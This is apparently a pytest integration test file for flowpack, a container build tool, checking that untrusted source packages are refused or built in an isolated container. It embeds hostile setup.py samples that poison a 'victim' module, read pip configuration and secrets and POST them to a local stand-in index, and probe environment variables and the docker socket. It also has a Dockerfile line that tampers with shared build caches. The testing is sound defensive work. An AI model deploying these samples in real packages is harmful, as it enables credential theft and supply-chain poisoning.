"""Packages that a stranger wrote, in the real engine: they run in a container of their own, or not at all."""

from __future__ import annotations

import contextlib
import hashlib
import re
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from dataclasses import replace
from http.server import ThreadingHTTPServer
from pathlib import Path

import pytest

from flowpack.dependencies.target import Platform
from flowpack.errors import EngineError
from flowpack.images.build_stage import install_packages
from flowpack.images.engine.docker_engine import DockerEngine
from flowpack.images.engine.model import ImageBuild
from flowpack.images.reference import ImageReference
from tests.commands import Done, flowpack
from tests.dependencies.packages import SimpleIndex, sha256, write_sdist, write_serving_wheels, write_wheel
from tests.integration.real_parts import Docker
from tests.paths import write_tree

pytestmark = [pytest.mark.engine, pytest.mark.network]

PASSWORD = "planted-in-the-pip-configuration-9e1d"
VARIABLE = "planted-in-a-variable-of-the-host-4c2a"

# What the container has by itself, and what pip, setuptools and the interpreter set.
EXPECTED_VARIABLES = {
    *("PATH", "HOME", "HOSTNAME", "TMPDIR", "PWD", "OLDPWD", "SHLVL", "_", "LANG", "LC_ALL", "LC_CTYPE", "GPG_KEY"),
    *("PIP_NO_INPUT", "PYTHONHASHSEED", "SOURCE_DATE_EPOCH", "PYTHON_VERSION", "PYTHON_SHA256", "PYTHONNOUSERSITE"),
    *(name for proxy in ("HTTP", "HTTPS", "FTP", "NO", "ALL") for name in (f"{proxy}_PROXY", f"{proxy}_PROXY".lower())),
    *("PIP_BUILD_TRACKER", "PEP517_BUILD_BACKEND", "PEP517_BACKEND_PATH", "_PYPROJECT_HOOKS_BUILD_BACKEND"),
}

# Alters every copy of the module `victim` that it can reach, and tells the index what it found.
POISON = """
import os, pathlib, urllib.request
told = []
for folder, _, names in os.walk("/"):
    if folder.startswith(("/proc", "/sys")):
        continue
    for name in names:
        if name == "victim.py" or name.startswith("victim-1.0"):
            path = pathlib.Path(folder, name)
            try:
                path.write_bytes(path.read_bytes() + b"\\npoisoned = True\\n")
                told.append(str(path))
            except OSError:
                pass
for path in ("/etc/pip.conf", "/run/secrets/ca-bundle"):
    if os.path.exists(path):
        told.append(pathlib.Path(path).read_text())
told.append("ran")
try:
    urllib.request.urlopen("INDEX/told", data="\\n".join(told).encode(), timeout=5)
except OSError:
    pass
from setuptools import setup
setup(name="hostile", version="1.0", py_modules=["hostile"])
"""


ALTERS_THE_CACHES = r"""
RUN --mount=type=cache,id=flowpack-wheels,target=/one --mount=type=cache,id=flowpack-packages,target=/two \
    date > /when; find /one /two -name '*victim*' -type f -exec sh -c 'echo poisoned = True >> "$1"' x {} \;
"""


class TellingIndex(SimpleIndex):
    """An index that keeps what packages tell it."""

    told: list[str]

    def do_POST(self) -> None:
        self.told.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
        self.send_response(200)
        self.end_headers()


class Index:
    def __init__(self, packages: Path, address: str, told: list[str]) -> None:
        self.packages = packages
        self.address = address
        self.told = told
        self.url = f"http://builder:{PASSWORD}@{address}/simple/"


@pytest.fixture(scope="session")
def tools(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, ...]:
    """The installer of the build stage, and what builds source distributions, as wheels for the local index."""
    folder = tmp_path_factory.mktemp("tools")
    lock = Path(install_packages.__file__).with_name("uv.lock")
    pip = (sys.executable, "-m", "pip", "download", "--quiet", "--no-deps", "--only-binary=:all:", "--dest", folder)
    subprocess.run((*pip, "--require-hashes", "-r", lock), check=True, cwd=folder)
    subprocess.run((*pip, "setuptools==78.1.1", "wheel==0.45.1"), check=True, cwd=folder)
    return tuple(sorted(folder.iterdir()))


@pytest.fixture
def index(tmp_path: Path, tools: tuple[Path, ...]) -> Iterator[Index]:
    """An index of this machine behind a password, with stand-ins for what serving needs."""
    packages = tmp_path / "index"
    write_serving_wheels(packages)
    for wheel in tools:
        (packages / wheel.name).symlink_to(wheel)
    told: list[str] = []
    handler = type("Handler", (TellingIndex,), {"wheels": packages, "told": told})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield Index(packages, f"127.0.0.1:{server.server_port}", told)
    server.shutdown()
    server.server_close()


@pytest.fixture
def pip_config(tmp_path: Path, index: Index) -> Path:
    path = tmp_path / "pip.conf"
    path.write_text(f"[global]\nindex-url = {index.url}\n")
    return path


@pytest.fixture
def command(tmp_path: Path, building: dict[str, str], pip_config: Path) -> Callable[..., Done]:
    """``flowpack`` on a machine whose index is the local one, and whose variables hold a secret."""
    environment = {
        **building,
        "PIP_CONFIG_FILE": str(pip_config),
        "FLOWPACK_PIP_CONFIG": str(pip_config),
        "FLOWPACK_CACHE_DIR": str(tmp_path / "cache"),
        "UV_CACHE_DIR": str(tmp_path / "uv-cache"),
        "PIP_FIND_LINKS": "",
        "DEPLOY_TOKEN": VARIABLE,
    }

    def call(*arguments: str | Path, expect: int = 0, **more: str) -> Done:
        return flowpack(*arguments, cwd=tmp_path, env={**environment, **more}, expect=expect)

    return call


def flow_of(folder: Path, requirements: str, **files: str) -> Path:
    return write_tree(
        folder,
        {
            "flow.dag.yaml": "inputs: {}\noutputs: {}\nnodes: []\nenvironment:\n"
            "  python_requirements_txt: requirements.txt\n",
            "requirements.txt": requirements,
            **files,
        },
    )


def module_of(docker: Docker, image: ImageReference, module: str) -> str:
    python = ("run", "--rm", "--network=none", "--entrypoint=/opt/venv/bin/python", str(image), "-c")
    return docker(*python, f"import {module}; print(open({module}.__file__).read())")


@pytest.mark.attack("C2")
def test_what_one_flow_s_package_runs_cannot_reach_another_flow_s_image(
    command: Callable[..., Done],
    index: Index,
    pip_config: Path,
    engine: DockerEngine,
    docker: Docker,
    base_image: ImageReference,
    tmp_path: Path,
    image_name: Callable[..., ImageReference],
) -> None:
    write_wheel(index.packages, "victim", "1.0")
    flow = flow_of(tmp_path / "one", "victim==1.0\n")
    first = image_name()
    command("build", flow, "--tag", str(first), "--output", tmp_path / "out")
    assert "poisoned" not in module_of(docker, first, "victim")

    hostile = write_sdist(
        index.packages, "hostile", "1.0", {"setup.py": POISON.replace("INDEX", f"http://{index.address}")}
    )
    # By hand, since no lock of flowpack's names a source distribution.
    context = tmp_path / "out"
    with (context / "requirements.lock").open("a") as lock:
        lock.write(f"hostile==1.0 --hash={sha256(hostile)}\n")
    by_hand = ImageBuild(
        context=context,
        tag=image_name(),
        platform=Platform.of_this_machine(),
        secrets={"pip-config": pip_config},
        network="host",
    )
    with contextlib.suppress(EngineError):
        engine.build(by_hand)
    assert index.told == []

    # Whoever writes a Dockerfile of their own may write into the cache, too.
    write_tree(tmp_path / "by-hand", {"Dockerfile": f"FROM {base_image}\n{ALTERS_THE_CACHES}"})
    engine.build(replace(by_hand, context=tmp_path / "by-hand"))

    write_wheel(index.packages, "other", "1.0")
    write_tree(flow, {"requirements.txt": "victim==1.0\nother\n"})
    second = image_name()
    command("build", flow, "--tag", str(second))
    assert "poisoned" not in module_of(docker, second, "victim")


LOOKS_AROUND = """
import os, pathlib, socket
seen = dict(os.environ)
seen["user"] = os.getuid()
for place in ("/etc/pip.conf", "/run/secrets", "/root/.cache", "/var/run/docker.sock", "HOST"):
    seen[place] = os.path.exists(place)
try:
    pathlib.Path("HOST/mark").write_text("ran here")
except OSError as error:
    seen["mark"] = str(error)
try:
    pathlib.Path("/source-build/in/build_wheel.py").write_text("")
    seen["own program"] = "written"
except OSError:
    pass
seen["network"] = [name for _, name in socket.if_nameindex()]
from setuptools import setup
pathlib.Path("lonely.py").write_text(f"seen = {seen!r}\\n")
setup(name="lonely", version="1.0", py_modules=["lonely"])
"""


@pytest.fixture
def lonely(index: Index, tmp_path: Path) -> Path:
    """A package without a wheel, whose setup.py writes down what it sees into the module that it installs."""
    return write_sdist(index.packages, "lonely", "1.0", {"setup.py": LOOKS_AROUND.replace("HOST", str(tmp_path))})


@pytest.mark.attack("C3")
@pytest.mark.parametrize("resolver", ["uv", "pip-tools"])
@pytest.mark.parametrize("name", ["lock", "build", "ci"])
def test_a_package_without_a_wheel_is_refused_and_runs_nowhere(
    command: Callable[..., Done], lonely: Path, tmp_path: Path, name: str, resolver: str
) -> None:
    flow = flow_of(tmp_path / "flow", "lonely\n")
    out = {"lock": (), "build": ("--output", tmp_path / "out"), "ci": ("--no-test",)}[name]
    done = command(name, flow, *out, "--resolver", resolver, expect=1)
    assert "requirements.txt:1: 'lonely' has no wheel for Python 3.11" in done.stderr
    assert "runs its author's code" in done.stderr
    assert "--allow-source lonely" in done.stderr
    assert not (tmp_path / "mark").exists()


@pytest.mark.attack("C3")
def test_an_allowed_package_is_built_apart_and_its_wheel_is_locked_and_shipped(
    command: Callable[..., Done],
    index: Index,
    lonely: Path,
    docker: Docker,
    tmp_path: Path,
    image_name: Callable[..., ImageReference],
) -> None:
    flow = flow_of(tmp_path / "flow", "lonely==1.0  # flowpack: allow-source\n")
    image = image_name()
    command("build", flow, "--output", tmp_path / "out", "--tag", str(image))
    [wheel] = (tmp_path / "out" / "wheels").iterdir()
    assert wheel.name == "lonely-1.0-py3-none-any.whl"
    assert not (tmp_path / "mark").exists(), "setup.py ran on the host"

    lock = (tmp_path / "out" / "requirements.lock").read_text()
    assert (
        f"lonely==1.0 \\\n    --hash={sha256(wheel)}\n    # built from lonely-1.0.tar.gz {sha256(lonely)}\n"
        "    # via -r requirements.txt\n"
    ) in lock

    module = module_of(docker, image, "lonely")
    seen = eval(module.partition("seen = ")[2])
    assert seen["user"] == 10001
    assert seen["network"] == ["lo"]
    assert "own program" not in seen
    assert "No such file" in seen["mark"]
    assert not [place for place in seen if place.startswith("/") and seen[place] is True]
    assert VARIABLE not in module
    assert PASSWORD not in module
    assert set(seen) <= {*EXPECTED_VARIABLES, "user", "network", "mark", *(each for each in seen if each[0] == "/")}

    # The lock counts from then on: nothing is built as long as its wheel is here, and only that wheel will do.
    write_tree(flow, {"requirements.lock": lock})
    again = command("build", flow, "--locked", "--output", tmp_path / "out2")
    assert "container" not in again.stderr
    (flow / "wheels").mkdir()
    wheel.rename(flow / "wheels" / wheel.name)
    command("build", flow, "--locked", "--output", tmp_path / "out3", FLOWPACK_CACHE_DIR=str(tmp_path / "empty"))
    assert [path.name for path in (tmp_path / "out3" / "wheels").iterdir()] == [wheel.name]

    (flow / "wheels" / wheel.name).write_bytes(b"another wheel")
    other = lock.replace(sha256(wheel := tmp_path / "out2" / "wheels" / wheel.name), f"sha256:{'0' * 64}")
    content = re.sub("# content: .*\n", "", other)
    digest = f"sha256:{hashlib.sha256(content.encode()).hexdigest()}"
    write_tree(flow, {"requirements.lock": re.sub("# content: .*", f"# content: {digest}", other)})
    refused = command(
        "build", flow, "--locked", "--output", tmp_path / "out4", FLOWPACK_CACHE_DIR=str(tmp_path / "new"), expect=1
    )
    assert "built again from lonely-1.0.tar.gz, differs from the one in the lock" in refused.stderr
    assert "flowpack lock" in refused.stderr
